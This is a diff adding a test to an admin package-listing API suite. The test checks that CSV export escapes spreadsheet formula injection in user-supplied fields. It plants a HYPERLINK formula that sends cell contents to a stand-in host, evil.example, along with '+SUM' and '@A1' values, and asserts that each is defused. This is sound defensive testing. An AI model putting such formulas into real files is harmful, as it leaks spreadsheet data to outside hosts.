@@ -118,6 +118,26 @@ describe("GET /api/admin/packages", () => {
     expect(lines[1]).toMatch(/,2450,B-07,good,.*,45$/);
   });
 
+  it("defuses formulas in the CSV: what customers and labels wrote cannot run in a spreadsheet", async () => {
+    const hostile = await createPackage(app.db, {
+      owner: { id: other.user.id },
+      warehouse: "Sabo Yaba",
+      carrier_tracking_number: "1ZCSVFORMULA01",
+      description: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+      label_owner_text: "+SUM(1,2)",
+      bin_location: "@A1",
+    });
+    const csv = await staff.get("/api/admin/packages?format=csv&q=1ZCSVFORMULA01");
+    expect(csv.status).toBe(200);
+    const [, line, more] = String(csv.raw.body).trim().split("\r\n");
+    expect(more).toBeUndefined();
+    expect(line).toContain(hostile.package_code);
+    expect(line).toContain(`'+SUM(1,2)`);
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
+    expect(line).toContain(",'@A1,");
+    expect(line).not.toMatch(/(^|,)[=+@-]/);
+  });
+
   it("refuses customers and anonymous callers", async () => {
     expect((await client(app, signedUp.token).get("/api/admin/packages")).status).toBe(401);
     expect((await client(app).get("/api/admin/packages")).status).toBe(401);
